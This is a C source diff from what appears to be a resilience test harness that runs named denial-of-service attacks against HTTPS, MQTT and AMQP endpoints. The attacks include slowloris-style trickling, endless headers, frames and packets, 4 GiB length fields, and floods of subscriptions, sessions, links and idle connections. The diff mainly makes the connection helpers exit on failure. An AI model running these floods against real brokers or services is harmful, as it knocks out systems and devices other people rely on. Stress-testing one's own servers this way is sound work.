@@ -14,6 +14,13 @@ enum { MIB = 1048576, RECORD = 0x17, SAID = 65536, AT_ONCE = 2100 };
 static unsigned char noise[SAID];
 static struct peer peers[AT_ONCE]; /* those that stay until the end */
 
+/* An attack that cannot begin is none, which is told. */
+static void need(bool begun)
+{
+	if (!begun)
+		_exit(1);
+}
+
 /* The same noise every time. */
 static void make_noise(void)
 {
@@ -168,7 +175,7 @@ static void https_chunks(const struct target *target, const struct attack *attac
 /* -- MQTT ---------------------------------------------------------------------------- */
 
 /* Past CONNECT, as a device that is one. */
-static bool as_device(struct peer *peer, const struct target *target)
+static void as_device(struct peer *peer, const struct target *target)
 {
 	char user[512], password[512];
 	unsigned char packet[2048] = { 0x10, 0,   0, 0,    4, 'M', 'Q',
@@ -187,9 +194,9 @@ static bool as_device(struct peer *peer, const struct target *target)
 	}
 	packet[1] = (unsigned char)((at - 3) % 128 | 128);
 	packet[2] = (unsigned char)((at - 3) / 128);
-	return peer_open_tls(peer, target->tls, target->ports[MQTT]) &&
-	       peer_say(peer, packet, at) && peer_hear(peer, packet, 4) == 4 &&
-	       packet[3] == 0;
+	need(peer_open_tls(peer, target->tls, target->ports[MQTT]) &&
+	     peer_say(peer, packet, at) && peer_hear(peer, packet, 4) == 4 &&
+	     packet[3] == 0);
 }
 
 /* The longest packet there is, never ended; before CONNECT and as a part of it. */
@@ -210,8 +217,8 @@ static void mqtt_huge_event(const struct target *target, const struct attack *at
 	static const unsigned char begins[] = { 0x32, 0xff, 0xff, 0xff, 0x7f, 0, 8 };
 
 	make_noise();
-	if (as_device(peers, target) && peer_say(peers, begins, sizeof(begins)) &&
-	    say_text(peers, "devices/"))
+	as_device(peers, target);
+	if (peer_say(peers, begins, sizeof(begins)) && say_text(peers, "devices/"))
 		say_mib(peers, noise, sizeof(noise), attack->count);
 }
 
@@ -227,8 +234,8 @@ static void mqtt_huge_topic(const struct target *target, const struct attack *at
 	len = snprintf(packet + 6, 512, "devices/%s/messages/events/a=", target->id);
 	packet[6 + len] = 'b';
 	for (size_t i = 0; i < attack->count; i++) {
-		if (as_device(peers, target))
-			say_mib(peers, packet, sizeof(packet), 1);
+		as_device(peers, target);
+		say_mib(peers, packet, sizeof(packet), 1);
 		peer_close(peers);
 	}
 }
@@ -238,8 +245,7 @@ static void mqtt_subscribes(const struct target *target, const struct attack *at
 	unsigned char packet[6 + 55 + 1] = { 0x82, 60, 0, 1, 0, 55 };
 	char topic[64];
 
-	if (!as_device(peers, target))
-		return;
+	as_device(peers, target);
 	for (size_t i = 0; i < attack->count; i++) {
 		snprintf(topic, sizeof(topic), "devices/a/messages/%036zu", i);
 		memcpy(packet + 6, topic, 55);
@@ -268,8 +274,8 @@ static void mqtt_deaf(const struct target *target, const struct attack *attack)
 		at[4 + len] = (unsigned char)(i >> 8);
 		at[5 + len] = (unsigned char)(i + 1);
 	}
-	if (as_device(peers, target))
-		say_mib(peers, many, n * packet, attack->count);
+	as_device(peers, target);
+	say_mib(peers, many, n * packet, attack->count);
 }
 
 /* -- AMQP ---------------------------------------------------------------------------- */
@@ -295,7 +301,7 @@ static size_t frame(unsigned char *at, int type, unsigned channel, const void *b
 }
 
 /* Past SASL ANONYMOUS, as whoever has not shown a token yet, and open. */
-static bool as_nobody(struct peer *peer, const struct target *target)
+static void as_nobody(struct peer *peer, const struct target *target)
 {
 	static const char init[] = "\0\x53\x41\xc0\x0c\1\xa3\x09"
 				   "ANONYMOUS";
@@ -305,12 +311,11 @@ static bool as_nobody(struct peer *peer, const struct target *target)
 
 	memcpy(out, "AMQP\3\1\0\0", 8);
 	n += frame(out + n, 1, 0, init, sizeof(init) - 1);
-	if (!peer_open_tls(peer, target->tls, target->ports[AMQP]) ||
-	    !peer_say(peer, out, n) || peer_hear(peer, in, sizeof(in)) == 0)
-		return false;
+	need(peer_open_tls(peer, target->tls, target->ports[AMQP]) &&
+	     peer_say(peer, out, n) && peer_hear(peer, in, sizeof(in)) > 0);
 	memcpy(out, "AMQP\0\1\0\0", 8);
 	n = 8 + frame(out + 8, 0, 0, open, sizeof(open) - 1);
-	return peer_say(peer, out, n);
+	need(peer_say(peer, out, n));
 }
 
 static void amqp_long_frame(const struct target *target, const struct attack *attack)
@@ -318,7 +323,8 @@ static void amqp_long_frame(const struct target *target, const struct attack *at
 	static const unsigned char begins[] = { 0xff, 0xff, 0xff, 0xff, 2, 0, 0, 0 };
 
 	make_noise();
-	if (as_nobody(peers, target) && peer_say(peers, begins, sizeof(begins)))
+	as_nobody(peers, target);
+	if (peer_say(peers, begins, sizeof(begins)))
 		say_mib(peers, noise, sizeof(noise), attack->count);
 }
 
@@ -341,8 +347,7 @@ static void amqp_begins(const struct target *target, const struct attack *attack
 	static const char begin[] = "\0\x53\x11\xc0\x07\4\x40\x43\x52\x0a\x52\x0a";
 	unsigned char out[64];
 
-	if (!as_nobody(peers, target))
-		return;
+	as_nobody(peers, target);
 	for (size_t i = 0; i < attack->count; i++)
 		if (!peer_say(peers, out,
 			      frame(out, 0, (unsigned)i, begin, sizeof(begin) - 1)))
@@ -374,8 +379,8 @@ static void amqp_attaches(const struct target *target, const struct attack *atta
 	static const char begin[] = "\0\x53\x11\xc0\x07\4\x40\x43\x52\x0a\x52\x0a";
 	unsigned char out[256];
 
-	if (!as_nobody(peers, target) ||
-	    !peer_say(peers, out, frame(out, 0, 0, begin, sizeof(begin) - 1)))
+	as_nobody(peers, target);
+	if (!peer_say(peers, out, frame(out, 0, 0, begin, sizeof(begin) - 1)))
 		return;
 	for (size_t i = 0; i < attack->count; i++)
 		if (!peer_say(peers, out, attach(out, i)))
@@ -391,8 +396,8 @@ static void amqp_flows(const struct target *target, const struct attack *attack)
 				   "\x40\x40\x41";
 	unsigned char out[256];
 
-	if (!as_nobody(peers, target) ||
-	    !peer_say(peers, out, frame(out, 0, 0, begin, sizeof(begin) - 1)) ||
+	as_nobody(peers, target);
+	if (!peer_say(peers, out, frame(out, 0, 0, begin, sizeof(begin) - 1)) ||
 	    !peer_say(peers, out, attach(out, 0)))
 		return;
 	for (size_t i = 0; i < attack->count; i++)
@@ -403,41 +408,41 @@ static void amqp_flows(const struct target *target, const struct attack *attack)
 /* ------------------------------------------------------------------------------------ */
 
 const struct attack attacks[] = {
-	{ "HTTPS: garbage", garbage, HTTPS, 200, 48, false },
-	{ "MQTT: garbage", garbage, MQTT, 200, 48, false },
-	{ "AMQP: garbage", garbage, AMQP, 200, 48, false },
-	{ "HTTPS: records of TLS that are none", records, HTTPS, 400, 48, false },
-	{ "MQTT: records of TLS that are none", records, MQTT, 400, 48, false },
-	{ "AMQP: records of TLS that are none", records, AMQP, 400, 48, false },
-	{ "HTTPS: garbage by TLS", inside_tls, HTTPS, 100, 48, false },
-	{ "MQTT: garbage by TLS", inside_tls, MQTT, 100, 48, false },
-	{ "AMQP: garbage by TLS", inside_tls, AMQP, 100, 48, false },
-	{ "HTTPS: 200 that send a byte at a time", slow, HTTPS, 200, 128, false },
-	{ "MQTT: 200 that send a byte at a time", slow, MQTT, 200, 128, false },
-	{ "AMQP: 200 that send a byte at a time", slow, AMQP, 200, 128, false },
-	{ "HTTPS: headers without end", https_headers, HTTPS, 64, 48, false },
-	{ "HTTPS: a first line without end", https_line, HTTPS, 64, 48, false },
-	{ "HTTPS: a body without end", https_body, HTTPS, 64, 48, false },
-	{ "HTTPS: chunks without end", https_chunks, HTTPS, 16, 48, false },
-	{ "MQTT: a CONNECT without end", mqtt_endless, MQTT, 64, 48, false },
-	{ "MQTT: an event without end", mqtt_huge_event, MQTT, 64, 48, false },
-	{ "MQTT: the longest topics and bags", mqtt_huge_topic, MQTT, 20, 48, false },
-	{ "MQTT: subscriptions without end", mqtt_subscribes, MQTT, 100000, 48, false },
-	{ "MQTT: events, acknowledgements not read", mqtt_deaf, MQTT, 16, 160, false },
-	{ "AMQP: a frame of 4 GiB", amqp_long_frame, AMQP, 64, 48, false },
-	{ "AMQP: a proof of 4 GiB", amqp_long_sasl, AMQP, 64, 48, false },
-	{ "AMQP: sessions without end", amqp_begins, AMQP, 65536, 160, false },
-	{ "AMQP: links without end", amqp_attaches, AMQP, 100000, 160, false },
-	{ "AMQP: credit without end", amqp_flows, AMQP, 100000, 48, false },
-	{ "HTTPS: connected and gone", storm, HTTPS, 2000, 128, false },
-	{ "MQTT: connected and gone", storm, MQTT, 2000, 128, false },
-	{ "AMQP: connected and gone", storm, AMQP, 2000, 128, false },
-	{ "HTTPS: 2,000 that say nothing", silent, HTTPS, 2000, 256, true },
-	{ "MQTT: 2,000 that say nothing", silent, MQTT, 2000, 256, false },
-	{ "AMQP: 2,000 that say nothing", silent, AMQP, 2000, 256, false },
-	{ "HTTPS: 200 that say nothing by TLS", silent_tls, HTTPS, 200, 128, false },
-	{ "MQTT: 200 that say nothing by TLS", silent_tls, MQTT, 200, 128, false },
-	{ "AMQP: 200 that say nothing by TLS", silent_tls, AMQP, 200, 128, false },
+	{ "HTTPS: garbage", garbage, HTTPS, 200, 48 },
+	{ "MQTT: garbage", garbage, MQTT, 200, 48 },
+	{ "AMQP: garbage", garbage, AMQP, 200, 48 },
+	{ "HTTPS: records of TLS that are none", records, HTTPS, 400, 48 },
+	{ "MQTT: records of TLS that are none", records, MQTT, 400, 48 },
+	{ "AMQP: records of TLS that are none", records, AMQP, 400, 48 },
+	{ "HTTPS: garbage by TLS", inside_tls, HTTPS, 100, 48 },
+	{ "MQTT: garbage by TLS", inside_tls, MQTT, 100, 48 },
+	{ "AMQP: garbage by TLS", inside_tls, AMQP, 100, 48 },
+	{ "HTTPS: 200 that send a byte at a time", slow, HTTPS, 200, 128 },
+	{ "MQTT: 200 that send a byte at a time", slow, MQTT, 200, 128 },
+	{ "AMQP: 200 that send a byte at a time", slow, AMQP, 200, 128 },
+	{ "HTTPS: headers without end", https_headers, HTTPS, 64, 48 },
+	{ "HTTPS: a first line without end", https_line, HTTPS, 64, 48 },
+	{ "HTTPS: a body without end", https_body, HTTPS, 64, 48 },
+	{ "HTTPS: chunks without end", https_chunks, HTTPS, 16, 48 },
+	{ "MQTT: a CONNECT without end", mqtt_endless, MQTT, 64, 48 },
+	{ "MQTT: an event without end", mqtt_huge_event, MQTT, 64, 48 },
+	{ "MQTT: the longest topics and bags", mqtt_huge_topic, MQTT, 20, 48 },
+	{ "MQTT: subscriptions without end", mqtt_subscribes, MQTT, 100000, 48 },
+	{ "MQTT: events, acknowledgements not read", mqtt_deaf, MQTT, 16, 160 },
+	{ "AMQP: a frame of 4 GiB", amqp_long_frame, AMQP, 64, 48 },
+	{ "AMQP: a proof of 4 GiB", amqp_long_sasl, AMQP, 64, 48 },
+	{ "AMQP: sessions without end", amqp_begins, AMQP, 65536, 160 },
+	{ "AMQP: links without end", amqp_attaches, AMQP, 20000, 160 },
+	{ "AMQP: credit without end", amqp_flows, AMQP, 100000, 48 },
+	{ "HTTPS: connected and gone", storm, HTTPS, 2000, 128 },
+	{ "MQTT: connected and gone", storm, MQTT, 2000, 128 },
+	{ "AMQP: connected and gone", storm, AMQP, 2000, 128 },
+	{ "HTTPS: 2,000 that say nothing", silent, HTTPS, 2000, 256 },
+	{ "MQTT: 2,000 that say nothing", silent, MQTT, 2000, 256 },
+	{ "AMQP: 2,000 that say nothing", silent, AMQP, 2000, 256 },
+	{ "HTTPS: 200 that say nothing by TLS", silent_tls, HTTPS, 200, 128 },
+	{ "MQTT: 200 that say nothing by TLS", silent_tls, MQTT, 200, 128 },
+	{ "AMQP: 200 that say nothing by TLS", silent_tls, AMQP, 200, 128 },
 };
 
 const size_t attack_count = sizeof(attacks) / sizeof(attacks[0]);
